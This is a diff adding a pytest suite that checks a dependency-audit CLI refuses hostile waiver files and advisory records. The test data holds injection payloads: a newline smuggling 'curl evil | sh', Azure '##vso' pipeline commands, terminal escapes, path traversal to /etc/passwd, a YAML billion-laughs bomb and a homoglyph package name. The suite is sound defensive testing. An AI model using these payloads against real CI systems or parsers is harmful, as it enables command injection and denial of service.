@@ -1,0 +1,235 @@
+"""Hostile-input suite, the audit's share (issue 10, issue 12 item 3): requirements/waivers.toml
+is changed by pull request like a set file, and advisory records come from outside.
+
+A waiver silences the gate, so every field is checked where it is read: a bad waiver is refused
+with `file:line` and exit 4 before any advisory is looked at, and nothing is written.
+"""
+
+from __future__ import annotations
+
+from collections.abc import Callable
+
+import pytest
+
+from tests.unit.conftest import Hostile, Project, Result, assert_refused
+
+Run = Callable[..., Result]
+WAIVERS = "requirements/waivers.toml"
+GOOD = 'package = "numpy", reason = "r", approved_by = "@platform-team", expires = 2099-01-01'
+
+
+def _waivers(text: str | bytes) -> Callable[[Project, pytest.MonkeyPatch], None]:
+    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
+        path = project.path(WAIVERS)
+        path.parent.mkdir(parents=True, exist_ok=True)
+        if isinstance(text, bytes):
+            path.write_bytes(text)
+        else:
+            path.write_text(text, encoding="utf-8")
+
+    return setup
+
+
+def _line(key: str, fields: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
+    return _waivers(f"# waivers\n[python]\n{key} = {{ {fields} }}\n")
+
+
+def _waiver_dir(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
+    project.path(WAIVERS).mkdir(parents=True)
+
+
+def _records(record: str) -> Callable[[Project, pytest.MonkeyPatch], None]:
+    def setup(project: Project, monkeypatch: pytest.MonkeyPatch) -> None:
+        folder = project.path("osv/vulns/numpy")
+        folder.mkdir(parents=True)
+        (folder / "PYSEC-2099-1.yaml").write_text(record, encoding="utf-8")
+
+    return setup
+
+
+AUDIT = ("audit", "--source", "https://osv.invalid")  # waivers are refused before any request
+AUDIT_DIR = ("audit", "--source", "osv")
+
+CASES = [
+    Hostile(
+        "newline-in-reason",
+        _line('"PYSEC-2099-1"', GOOD.replace('reason = "r"', 'reason = "x\\nRUN curl evil | sh"')),
+        AUDIT,
+        4,
+        f"{WAIVERS}:3: waiver PYSEC-2099-1: reason:",
+    ),
+    Hostile(
+        "escape-in-approved-by",
+        _line('"PYSEC-2099-1"', GOOD.replace('"@platform-team"', '"@a\\u001b[2J"')),
+        AUDIT,
+        4,
+        "approved_by",
+    ),
+    Hostile(
+        "azure-command-in-reason",
+        _line(
+            '"PYSEC-2099-1"', GOOD.replace('reason = "r"', 'reason = "x\\r##vso[task.complete]"')
+        ),
+        AUDIT,
+        4,
+        "reason",
+    ),
+    Hostile(
+        "reason-not-a-string",
+        _line('"PYSEC-2099-1"', GOOD.replace('reason = "r"', 'reason = ["a", 1]')),
+        AUDIT,
+        4,
+        "reason: text must be a string",
+    ),
+    Hostile(
+        "reason-too-long",
+        _line('"PYSEC-2099-1"', GOOD.replace('reason = "r"', f'reason = "{"x" * 20000}"')),
+        AUDIT,
+        4,
+        "characters long",
+    ),
+    Hostile(
+        "package-with-newline",
+        _line('"PYSEC-2099-1"', GOOD.replace('"numpy"', '"numpy\\n"')),
+        AUDIT,
+        4,
+        "not a valid Python project name",
+    ),
+    Hostile(
+        "package-confusable",
+        _line('"PYSEC-2099-1"', GOOD.replace('"numpy"', '"nump\u0443"')),
+        AUDIT,
+        4,
+        "not a valid Python project name",
+    ),
+    Hostile(
+        "advisory-id-path",
+        _line('"../../v1/vulns/x"', GOOD),
+        AUDIT,
+        4,
+        "is not an advisory id",
+    ),
+    Hostile(
+        "advisory-id-newline",
+        _line('"PYSEC-2099-1\\n"', GOOD),
+        AUDIT,
+        4,
+        "is not an advisory id",
+    ),
+    Hostile(
+        "expires-a-string",
+        _line('"PYSEC-2099-1"', GOOD.replace("2099-01-01", '"2099-01-01"')),
+        AUDIT,
+        4,
+        "expires must be a date",
+    ),
+    Hostile(
+        "expires-a-datetime",
+        _line('"PYSEC-2099-1"', GOOD.replace("2099-01-01", "2099-01-01T00:00:00Z")),
+        AUDIT,
+        4,
+        "expires must be a date",
+    ),
+    Hostile(
+        "no-expiry",
+        _line('"PYSEC-2099-1"', GOOD.replace(", expires = 2099-01-01", "")),
+        AUDIT,
+        4,
+        "has no expires",
+    ),
+    Hostile(
+        "unknown-field",
+        _line('"PYSEC-2099-1"', GOOD + ", versions = '*'"),
+        AUDIT,
+        4,
+        "unknown field 'versions'",
+    ),
+    Hostile(
+        "not-a-table",
+        _waivers("[python]\nPYSEC-2099-1 = 'numpy'\n"),
+        AUDIT,
+        4,
+        "must be an inline table",
+    ),
+    Hostile("unknown-table", _waivers("[apt]\nx = 1\n"), AUDIT, 4, "unknown table [apt]"),
+    Hostile("invalid-toml", _waivers("[python]\nPYSEC-2099-1 = {\n"), AUDIT, 4, f"{WAIVERS}:2"),
+    Hostile("not-utf8", _waivers(b"[python]\n\xff\xfe = 1\n"), AUDIT, 4, "not UTF-8"),
+    Hostile(
+        "nested-too-deeply",
+        _waivers("x = " + "[" * 5000 + "]" * 5000 + "\n"),
+        AUDIT,
+        4,
+        "invalid TOML",
+    ),
+    Hostile("a-directory", _waiver_dir, AUDIT, 4, "cannot read it"),
+    Hostile(
+        "source-with-userinfo",
+        lambda project, monkeypatch: None,
+        ("audit", "--source", "https://user:secret@osv.example"),
+        2,
+        "--source",
+    ),
+    Hostile(
+        "source-not-http",
+        lambda project, monkeypatch: None,
+        ("audit", "--source", "file:///etc"),
+        2,
+        "--source",
+    ),
+    Hostile(
+        "record-id-traversal",
+        _records("id: ../../etc/passwd\naffected: []\n"),
+        AUDIT_DIR,
+        1,
+        "not a readable OSV record",
+    ),
+    Hostile(
+        "record-not-yaml",
+        _records("id: [\n"),
+        AUDIT_DIR,
+        1,
+        "not a readable OSV record",
+    ),
+    Hostile(
+        "record-billion-laughs",
+        _records(
+            'a: &a ["x","x","x","x","x","x","x","x","x"]\nb: &b [*a,*a,*a,*a,*a,*a,*a,*a,*a]\n'
+            "c: &c [*b,*b,*b,*b,*b,*b,*b,*b,*b]\nid: *c\n"
+        ),
+        AUDIT_DIR,
+        1,
+        "not a readable OSV record",
+    ),
+    Hostile(
+        "empty-source-directory",
+        lambda project, monkeypatch: project.path("osv").mkdir(),
+        AUDIT_DIR,
+        1,
+        "not an OSV database",
+    ),
+]
+
+
+@pytest.mark.parametrize("case", CASES, ids=[c.id for c in CASES])
+def test_hostile_audit_input(
+    case: Hostile, locked_project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
+) -> None:
+    monkeypatch.chdir(locked_project.root)
+    assert_refused(case, locked_project, monkeypatch, run_cli)
+
+
+def test_advisory_text_reaches_the_log_neutralised(
+    locked_project: Project, monkeypatch: pytest.MonkeyPatch, run_cli: Run
+) -> None:
+    """A record's summary is outside text: one line, no escape, no Azure command."""
+    monkeypatch.chdir(locked_project.root)
+    monkeypatch.setenv("TF_BUILD", "True")
+    _records(
+        'id: PYSEC-2099-1\nsummary: "x\\n##vso[task.setvariable variable=A]b\\e[2J"\n'
+        "affected:\n- package: {ecosystem: PyPI, name: numpy}\n  versions: ['2.4.6']\n"
+    )(locked_project, monkeypatch)
+    result = run_cli("--config", locked_project.config, *AUDIT_DIR)
+    assert result.code == 15, result.err
+    assert "##vso[task.setvariable" not in result.err
+    assert "\x1b" not in result.err
+    assert "numpy==2.4.6 (extra.lock): PYSEC-2099-1, no fixed version known" in result.err
